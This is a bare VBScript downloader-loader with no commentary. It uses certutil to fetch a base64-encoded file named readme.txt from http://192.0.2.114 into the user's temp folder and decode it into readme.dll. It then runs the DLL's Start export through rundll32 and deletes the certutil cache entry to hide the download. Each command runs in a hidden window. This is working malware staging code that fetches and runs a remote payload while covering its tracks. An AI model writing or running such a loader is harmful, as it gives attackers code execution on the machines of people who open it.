Set sh = CreateObject("WScript.Shell")
t = sh.ExpandEnvironmentStrings("%TEMP%")
sh.Run "cmd /c certutil.exe -urlcache -split -f http://192.0.2.114/cert/readme.txt """ & t & "\readme.txt""", 0, True
sh.Run "cmd /c certutil.exe -decode """ & t & "\readme.txt"" """ & t & "\readme.dll""", 0, True
sh.Run "rundll32.exe """ & t & "\readme.dll"",Start", 0, False
sh.Run "cmd /c certutil.exe -urlcache -f http://192.0.2.114/cert/readme.txt delete", 0, True
